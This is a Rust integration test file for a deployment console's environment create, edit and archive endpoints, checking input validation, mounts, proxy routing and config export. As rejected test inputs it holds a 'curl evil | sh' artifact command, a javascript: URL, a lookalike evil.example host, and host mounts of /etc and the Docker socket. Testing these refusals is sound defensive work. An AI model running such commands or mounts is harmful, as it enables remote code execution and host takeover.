//! The Environments page's server functions through the real router: what
//! an admin may set from a browser, every refusal naming its field and
//! changing nothing, and what stays on the host's side (a process
//! environment's command, the proxy token file, a non-loopback proxy).

mod child;
mod support;

use support::*;

fn create_form<'a>(overrides: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a str)> {
    let mut form = vec![
        ("name", "shop"),
        ("runtime", "docker"),
        ("artifact", "127.0.0.1:5000/shop:{version}"),
        ("app_url", "http://127.0.0.1:8300/"),
        ("preview_listen", ""),
        ("health_path", "/health"),
        ("health_status", ""),
        ("health_body", ""),
        ("admin_url", "http://127.0.0.1:8391"),
        ("upstream", ""),
        ("signoff_ttl_hours", "24"),
        ("checklist", "default"),
        ("port", "8080"),
        ("memory_mb", ""),
        ("cpus", ""),
        ("restart", "no"),
        ("network", ""),
    ];
    for (k, v) in overrides {
        form.iter_mut().find(|(f, _)| f == k).unwrap().1 = v;
    }
    form
}

#[tokio::test]
async fn an_admin_creates_edits_and_archives_with_every_bad_field_named() {
    let c = start().await;
    c.user("ada", Role::Admin).await;
    let admin = c.session_for("ada").await;
    let env_proxy = c
        .engine
        .environment_config(&engine::Actor::system(), ENV)
        .await
        .unwrap()
        .router
        .admin_url;

    for (field, value) in [
        ("name", "Shop!"),
        ("runtime", "process"),
        ("runtime", "kubernetes"),
        ("artifact", "127.0.0.1:5000/shop:latest"),
        ("artifact", "127.0.0.1:5000/Shop Now:{version}"),
        ("app_url", "javascript:alert(1)"),
        ("preview_listen", "everywhere"),
        ("health_path", "health"),
        ("health_status", "ok"),
        ("health_status", "700"),
        ("health_body", "two\nlines"),
        ("admin_url", "http://10.1.2.3:8081"),
        ("admin_url", "http://127.0.0.1.evil.example:8081"),
        // The demo's own proxy already switches ENV.
        ("admin_url", env_proxy.as_str()),
        ("upstream", "nowhere"),
        ("signoff_ttl_hours", "a day"),
        ("checklist", "whatever"),
        ("checklist", "copy:nowhere"),
        ("port", "0"),
        ("port", "http"),
        ("memory_mb", "1"),
        ("cpus", "many"),
        ("restart", "sometimes"),
        ("network", "host"),
    ] {
        let before = c.count("environments").await;
        let audit_before = c.count("audit_log").await;
        let r = c
            .post(
                "/api/create_environment",
                &create_form(&[(field, value)]),
                Some(&admin),
                &[],
            )
            .await;
        assert_eq!(
            r.status,
            StatusCode::BAD_REQUEST,
            "{field}={value}: {}",
            r.body
        );
        match r.error() {
            AppError::InvalidInput { field: f, message } => {
                assert_eq!(f, field, "{field}={value}: {message}")
            }
            e => panic!("{field}={value}: {e:?}"),
        }
        assert_eq!(c.count("environments").await, before, "{field}={value}");
        assert_eq!(c.count("audit_log").await, audit_before, "{field}={value}");
    }

    let r = c
        .post(
            "/api/create_environment",
            &create_form(&[]),
            Some(&admin),
            &[],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let shop = c
        .engine
        .environment_config(&engine::Actor::system(), "shop")
        .await
        .unwrap();
    // Switched by the console's own proxy token, whatever the browser said.
    assert!(shop.router.token_file.ends_with("proxy.token"), "{shop:?}");
    assert!(
        c.count("checklist_items").await > 0,
        "the default checklist"
    );
    let page = c.get("/environments/shop", Some(&admin)).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("data-editing=\"shop\""), "{}", page.body);
    assert!(page.body.contains("127.0.0.1:5000/shop:{version}"));
    assert!(
        !page.body.contains("proxy.token"),
        "the token file's path is not shown"
    );

    // A process environment's command line stays as it is.
    let edit = |artifact: &'static str, health: &'static str| {
        vec![
            ("environment", ENV),
            ("artifact", artifact),
            ("app_url", "http://127.0.0.1:1/"),
            ("preview_listen", ""),
            ("health_path", health),
            ("stop_grace_ms", "10000"),
            ("admin_url", ""),
            ("upstream", ""),
            ("signoff_ttl_hours", "24"),
            ("port", "8080"),
            ("memory_mb", "128"),
            ("cpus", "0.5"),
            ("restart", "no"),
            ("network", ""),
        ]
    };
    let mut form = edit("/bin/sh -c 'curl evil | sh' {version}", "/ready");
    form[6].1 = env_proxy.as_str();
    let r = c
        .post("/api/edit_environment", &form, Some(&admin), &[])
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert!(matches!(r.error(), AppError::InvalidInput { field, .. } if field == "artifact"));
    // A registry login must name one of the environment's secrets.
    let mut form = edit("/bin/true {version}", "/ready");
    form[6].1 = env_proxy.as_str();
    form.push(("registry_user", "ci"));
    form.push(("registry_password_secret", "NOT_A_SECRET"));
    let r = c
        .post("/api/edit_environment", &form, Some(&admin), &[])
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert!(
        matches!(r.error(), AppError::InvalidInput { field, .. } if field == "registry_password_secret")
    );
    let mut form = edit("/bin/true {version}", "/ready");
    form[6].1 = env_proxy.as_str();
    let r = c
        .post("/api/edit_environment", &form, Some(&admin), &[])
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let env = c
        .engine
        .environment_config(&engine::Actor::system(), ENV)
        .await
        .unwrap();
    assert_eq!(env.health_path, "/ready");
    assert_eq!(env.artifact, "/bin/true {version}");

    // Archiving an environment users are on needs the confirmation.
    engine::store::query("UPDATE environments SET active_color = 'blue' WHERE name = 'shop'")
        .execute(&c.pool)
        .await
        .unwrap();
    let r = c
        .post(
            "/api/archive_environment",
            &[("environment", "shop")],
            Some(&admin),
            &[],
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert!(matches!(r.error(), AppError::InvalidInput { field, .. } if field == "confirm"));
    let r = c
        .post(
            "/api/archive_environment",
            &[("environment", "shop"), ("confirm", "on")],
            Some(&admin),
            &[],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let page = c.get("/environments", Some(&admin)).await;
    assert!(
        page.body.contains("data-archived=\"shop\""),
        "{}",
        page.body
    );
    assert!(!page.body.contains("data-environment=\"shop\""));
}

/// Mounts from the browser: one per line, checked as a file's are (the bad
/// line named), named volumes only; a host directory the CLI set stays
/// through an edit from the page, a new one is refused. Shown back on the
/// edit form.
#[tokio::test]
async fn mounts_are_set_one_per_line_and_host_directories_stay_the_hosts() {
    let c = start().await;
    c.user("ada", Role::Admin).await;
    let admin = c.session_for("ada").await;
    let system = engine::Actor::system();

    for (volumes, line) in [
        ("shop-data:/data\n\nnot a mount", "line 3"),
        ("shop-data:/data\n../etc:/etc", "line 2"),
        ("shop-data:relative", "line 1"),
        // Well formed, but a directory of the console's host.
        ("shop-data:/data\n/etc:/host-etc:ro", "line 2"),
    ] {
        let before = c.count("environments").await;
        let audit_before = c.count("audit_log").await;
        let mut form = create_form(&[]);
        form.push(("volumes", volumes));
        let r = c
            .post("/api/create_environment", &form, Some(&admin), &[])
            .await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{volumes:?}: {}", r.body);
        match r.error() {
            AppError::InvalidInput { field, message } => {
                assert_eq!(field, "volumes", "{message}");
                assert!(message.contains(line), "{volumes:?}: {message}");
            }
            e => panic!("{volumes:?}: {e:?}"),
        }
        assert_eq!(c.count("environments").await, before, "{volumes:?}");
        assert_eq!(c.count("audit_log").await, audit_before, "{volumes:?}");
    }

    let mut form = create_form(&[]);
    form.push((
        "volumes",
        "shop-data:/data\r\n\r\n  shop-cache:/cache:ro \r\n",
    ));
    let r = c
        .post("/api/create_environment", &form, Some(&admin), &[])
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let shop = c.engine.environment_config(&system, "shop").await.unwrap();
    assert_eq!(
        shop.docker.volumes,
        ["shop-data:/data", "shop-cache:/cache:ro"]
    );
    let page = c.get("/environments/shop", Some(&admin)).await;
    assert!(
        page.body.contains("name=\"volumes\"")
            && page.body.contains("shop-data:/data\nshop-cache:/cache:ro"),
        "{}",
        page.body
    );

    // A host directory set on the host's side (the CLI, a file) is kept by
    // an edit from the page that shows it; a new one is not accepted.
    let mut config = shop.clone();
    config.docker.volumes = vec!["/srv/shop:/srv:ro".into()];
    c.engine.edit_environment(&system, &config).await.unwrap();
    let edit = |volumes: &'static str| {
        vec![
            ("environment", "shop"),
            ("artifact", "127.0.0.1:5000/shop:{version}"),
            ("app_url", "http://127.0.0.1:8300/"),
            ("preview_listen", ""),
            ("health_path", "/health"),
            ("stop_grace_ms", "10000"),
            ("admin_url", "http://127.0.0.1:8391"),
            ("upstream", ""),
            ("signoff_ttl_hours", "24"),
            ("port", "8080"),
            ("memory_mb", ""),
            ("cpus", ""),
            ("restart", "no"),
            ("network", ""),
            ("volumes", volumes),
        ]
    };
    let r = c
        .post(
            "/api/edit_environment",
            &edit("/srv/shop:/srv:ro\n/var/run/docker.sock:/var/run/docker.sock"),
            Some(&admin),
            &[],
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert!(
        matches!(r.error(), AppError::InvalidInput { field, message } if field == "volumes" && message.contains("line 2"))
    );
    let r = c
        .post(
            "/api/edit_environment",
            &edit("/srv/shop:/srv:ro\nshop-data:/data"),
            Some(&admin),
            &[],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let shop = c.engine.environment_config(&system, "shop").await.unwrap();
    assert_eq!(
        shop.docker.volumes,
        ["/srv/shop:/srv:ro", "shop-data:/data"]
    );
    let changes: Vec<(String, String)> = engine::store::query_as(
        "SELECT action, details FROM audit_log WHERE environment = 'shop' ORDER BY id DESC LIMIT 1",
    )
    .fetch_all(&c.pool)
    .await
    .unwrap();
    assert_eq!(changes[0].0, "environment.edit");
    assert!(changes[0].1.contains("docker.volumes"), "{changes:?}");
}

/// What the page creates, `switchyard export` writes down completely:
/// applied back it changes nothing, and applied to another console's data
/// directory it creates environments that export identically.
#[tokio::test]
async fn a_page_created_environment_exports_and_applies_identically() {
    let c = start().await;
    c.user("ada", Role::Admin).await;
    let admin = c.session_for("ada").await;
    let mut form = create_form(&[
        ("memory_mb", "256"),
        ("cpus", "0.5"),
        ("restart", "on-failure"),
        ("preview_listen", "127.0.0.1:8392"),
        ("upstream", ENV),
    ]);
    form.push(("volumes", "shop-data:/data"));
    form.push(("registry_user", "ci"));
    form.push(("registry_password", "a registry password"));
    let r = c
        .post("/api/create_environment", &form, Some(&admin), &[])
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);

    let here = c._dir.path();
    let file = here.join("environments.toml");
    let path = file.display().to_string();
    let (ok, out) = store::cli(here, &["export", "-o", &path]).await;
    assert!(ok, "{out}");
    let exported = std::fs::read_to_string(&file).unwrap();
    for field in [
        "name = \"shop\"",
        "shop-data:/data",
        "registry_user = \"ci\"",
        "REGISTRY_PASSWORD",
        "memory_mb = 256",
    ] {
        assert!(exported.contains(field), "{field} not in {exported}");
    }
    assert!(!exported.contains("a registry password"), "{exported}");

    let audit_before = c.count("audit_log").await;
    let (ok, out) = store::cli(here, &["apply", "--yes", "-f", &path]).await;
    assert!(ok, "{out}");
    assert!(out.contains("shop: unchanged"), "{out}");
    assert!(out.contains("nothing to apply"), "{out}");
    assert_eq!(c.count("audit_log").await, audit_before);

    let elsewhere = tempfile::tempdir().unwrap();
    // Without --yes: the plan, field by field, and nothing written.
    let (ok, out) = store::cli(elsewhere.path(), &["apply", "-f", &path]).await;
    assert!(ok, "{out}");
    assert!(out.contains("shop: create"), "{out}");
    assert!(out.contains("+ docker.volumes"), "{out}");
    assert!(out.contains("run again with --yes"), "{out}");
    let (ok, nothing) = store::cli(elsewhere.path(), &["env", "list"]).await;
    assert!(ok, "{nothing}");
    assert!(!nothing.contains("shop"), "{nothing}");
    let (ok, out) = store::cli(elsewhere.path(), &["apply", "--yes", "-f", &path]).await;
    assert!(ok, "{out}");
    assert!(out.contains("shop: create"), "{out}");
    let (ok, again) = store::cli(elsewhere.path(), &["export"]).await;
    assert!(ok, "{again}");
    assert_eq!(again, exported);
    let (ok, listed) = store::cli(elsewhere.path(), &["env", "list"]).await;
    assert!(ok, "{listed}");
    assert!(listed.contains("shop"), "{listed}");
}

/// The route on the proxy at `admin` for environment `name`: its hosts,
/// or `None` when the proxy has no such route.
async fn route_hosts(dir: &std::path::Path, admin: u16, name: &str) -> Option<Vec<String>> {
    let token = std::fs::read_to_string(dir.join("proxy.token")).unwrap();
    let r = reqwest::Client::new()
        .get(format!("http://127.0.0.1:{admin}/admin/routes/{name}"))
        .bearer_auth(token.trim())
        .send()
        .await
        .unwrap();
    if r.status() == StatusCode::NOT_FOUND {
        return None;
    }
    let v: serde_json::Value = r.json().await.unwrap();
    Some(
        v["hosts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|h| h.as_str().unwrap().to_string())
            .collect(),
    )
}

/// Host names from the form and the CLI: two environments share one proxy
/// the console starts, each a named route there; bad hosts, prefixes and a
/// redirect without hosts are refused naming the field with nothing
/// written; the edit form shows them back and moves the route.
#[tokio::test]
async fn host_names_from_the_form_and_the_cli_share_one_proxy() {
    let [console_app, console_admin, app, admin, preview] = child::free_ports::<5>();
    let c = start_running_proxies(console_app, console_admin).await;
    let dir = c._dir.path().to_path_buf();
    struct StopUnder(std::path::PathBuf);
    impl Drop for StopUnder {
        fn drop(&mut self) {
            child::kill_everything_under(&self.0);
        }
    }
    let _stop = StopUnder(dir.clone());
    c.user("ada", Role::Admin).await;
    let ada = c.session_for("ada").await;
    let (app_url, admin_url, preview_listen) = (
        format!("http://127.0.0.1:{app}/"),
        format!("http://127.0.0.1:{admin}"),
        format!("127.0.0.1:{preview}"),
    );
    let form = |extra: &[(&'static str, &'static str)]| {
        let mut f = create_form(&[
            ("app_url", app_url.as_str()),
            ("admin_url", admin_url.as_str()),
            ("preview_listen", preview_listen.as_str()),
            ("checklist", "empty"),
        ]);
        f.extend_from_slice(extra);
        f
    };
    for (field, extra) in [
        ("hosts", vec![("hosts", "Shop.Example.test")]),
        ("hosts", vec![("hosts", "shop.example.test:443")]),
        ("hosts", vec![("hosts", "<b>.example.test")]),
        (
            "path_prefix",
            vec![("hosts", "shop.example.test"), ("path_prefix", "api")],
        ),
        ("redirect_https", vec![("redirect_https", "on")]),
    ] {
        let before = c.count("environments").await;
        let audit_before = c.count("audit_log").await;
        let r = c
            .post("/api/create_environment", &form(&extra), Some(&ada), &[])
            .await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{extra:?}: {}", r.body);
        match r.error() {
            AppError::InvalidInput { field: f, message } => {
                assert_eq!(f, field, "{extra:?}: {message}")
            }
            e => panic!("{extra:?}: {e:?}"),
        }
        assert_eq!(c.count("environments").await, before, "{extra:?}");
        assert_eq!(c.count("audit_log").await, audit_before, "{extra:?}");
    }

    let r = c
        .post(
            "/api/create_environment",
            &form(&[
                ("hosts", "shop.example.test, *.shop.example.test"),
                ("path_prefix", "/store"),
                ("redirect_https", "on"),
            ]),
            Some(&ada),
            &[],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(
        route_hosts(&dir, admin, "shop").await,
        Some(vec![
            "shop.example.test".into(),
            "*.shop.example.test".into()
        ])
    );
    let (ok, out) = store::cli(
        &dir,
        &[
            "env",
            "create",
            "blog",
            "--runtime",
            "docker",
            "--artifact",
            "127.0.0.1:5000/blog:{version}",
            "--app-url",
            &app_url,
            "--admin-url",
            &admin_url,
            "--checklist",
            "empty",
            "--host",
            "blog.example.test",
            &format!("preview_listen={preview_listen}"),
        ],
    )
    .await;
    assert!(ok, "{out}");
    assert_eq!(
        route_hosts(&dir, admin, "blog").await,
        Some(vec!["blog.example.test".into()])
    );
    let (ok, out) = store::cli(
        &dir,
        &[
            "env",
            "edit",
            "blog",
            "hosts=news.example.test,www.news.example.test",
        ],
    )
    .await;
    assert!(ok, "{out}");
    assert_eq!(
        route_hosts(&dir, admin, "blog").await,
        Some(vec![
            "news.example.test".into(),
            "www.news.example.test".into()
        ])
    );
    // One proxy for both, named after its admin address.
    let state = dir.join(format!("proxy-127.0.0.1-{admin}-routing.json"));
    assert_eq!(child::pids_mentioning(&state).len(), 1);

    // The edit form shows the route's fields; saving moves its hosts.
    let page = c.get("/environments/shop", Some(&ada)).await;
    assert!(
        page.body
            .contains("value=\"shop.example.test, *.shop.example.test\""),
        "{}",
        page.body
    );
    assert!(page.body.contains("value=\"/store\""), "{}", page.body);
    let edit = vec![
        ("environment", "shop"),
        ("artifact", "127.0.0.1:5000/shop:{version}"),
        ("app_url", app_url.as_str()),
        ("preview_listen", preview_listen.as_str()),
        ("health_path", "/health"),
        ("stop_grace_ms", "10000"),
        ("admin_url", admin_url.as_str()),
        ("upstream", ""),
        ("signoff_ttl_hours", "24"),
        ("port", "8080"),
        ("memory_mb", ""),
        ("cpus", ""),
        ("restart", "no"),
        ("network", ""),
        ("hosts", "shop.example.test"),
        ("path_prefix", ""),
    ];
    let r = c
        .post("/api/edit_environment", &edit, Some(&ada), &[])
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let shop = c
        .engine
        .environment_config(&engine::Actor::system(), "shop")
        .await
        .unwrap();
    assert_eq!(shop.hosts, vec!["shop.example.test".to_string()]);
    assert_eq!((shop.path_prefix, shop.redirect_https), (None, false));
    assert_eq!(
        route_hosts(&dir, admin, "shop").await,
        Some(vec!["shop.example.test".into()])
    );
    // A host the other environment has is refused, the route unchanged.
    let mut taken = edit.clone();
    taken[14].1 = "news.example.test";
    let r = c
        .post("/api/edit_environment", &taken, Some(&ada), &[])
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert!(matches!(r.error(), AppError::InvalidInput { field, .. } if field == "hosts"));
    assert_eq!(
        route_hosts(&dir, admin, "shop").await,
        Some(vec!["shop.example.test".into()])
    );
    // Archived, its route is gone; the other's stays.
    let r = c
        .post(
            "/api/archive_environment",
            &[("environment", "shop")],
            Some(&ada),
            &[],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(route_hosts(&dir, admin, "shop").await, None);
    assert!(route_hosts(&dir, admin, "blog").await.is_some());
}
